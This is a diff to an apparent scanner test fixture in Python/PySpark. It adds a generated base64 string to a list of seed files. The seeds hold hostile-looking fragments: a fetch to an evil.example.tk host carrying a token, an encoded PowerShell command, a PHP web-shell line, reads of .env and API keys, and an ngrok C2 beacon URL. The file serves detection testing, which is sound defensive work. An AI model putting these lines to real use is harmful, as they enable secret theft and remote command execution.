@@ -7,6 +7,7 @@ same list, so both engines see the same files.
 
 from __future__ import annotations
 
+import base64
 from dataclasses import dataclass
 
 from pyspark.sql import Column, DataFrame, SparkSession, functions as F
@@ -26,6 +27,9 @@ class Seed:
 
 B64_SYMBOLS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
 
+# A line dense enough in symbols to be suspicious that decodes to printable text.
+READABLE_B64 = base64.b64encode(bytes(32 + (i * i * 11 + i * 7) % 95 for i in range(285))).decode()
+
 SEEDS = [
     Seed("src/a.js", 'fetch("https://evil.example.tk/payload?token=abc")\neval("1+1")\nnew WebSocket("wss://x.example.top/a")\nvar q = axios.get("/x"); new XMLHttpRequest();'),
     Seed("src/b.js", "var a\u200bb = 1;\nif (x) \u202e return \u2066 now \u2069\u202c;\nvar c\u200bd\u200c = 2; // \u202e again"),
@@ -58,7 +62,7 @@ SEEDS = [
     Seed("scripts/y.ps1", 'powershell -nop -enc QUJDREVGR0hJSktMTU5PUFFSU1RV\nschtasks /create /tn x\nSub AutoOpen()\nCreateProcessAsUser(1)\nUser-Agent: "Mozilla/5.0"'),
     Seed("web/shell.php", 'system($_GET[1]); eval( $_POST[2]); SELECT a FROM b WHERE c = "" + d; require( name + ".js"); import(`./${x}`)'),
     Seed("src/behave.py", 'os.system("x"); subprocess.run(y); popen(z)\nProcessBuilder; setTimeout("x()", 5); Function("return 1")\nnode -e "x"; python -c "y"\nwriteFileSync(a); chmod +x b; crontab -l; reg add HKLM; nssm install; AutoRun\n.bashrc; nslookup a.example; process.env.HOME; environ["API_KEY"]; scp f user@h:/\ncat .env; echo $MY_SECRET; curl("http://x"); fork(); socket'),
-    Seed("data/blob.txt", "VGhlIHF1aWNrIGJyb3duIGZveCBqdW1wcyBvdmVyIDEzIGxhenkgZG9ncyEgUGFjayBteSBib3ggd2l0aCA1IGRvemVuIGxpcXVvciBqdWdzLCBzYXlzIEtaWFc9fnp8e30=\n" + B64_SYMBOLS + "\n" + B64_SYMBOLS[::-1] * 2),
+    Seed("data/blob.txt", READABLE_B64 + "\n" + B64_SYMBOLS + "\n" + B64_SYMBOLS[::-1] * 2 + "\n%41%42 c"),
     Seed("src/enc.js", 'var h = "\\x48\\x65\\x6c\\x6c\\x6f"; var u = "\\u0048\\u0069";\neval(atob("YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=="));\nString.fromCharCode(72, 0x69, 33)'),
     Seed("src/inv\u202eoice.js", "harmless"),
     Seed("src/zero\u200bwidth.md", "http://127.0.0.1:8080/x and https://u:p@host.example.com/ and https://a.ngrok.io/c2/beacon?x=1, https://github.com/ok."),
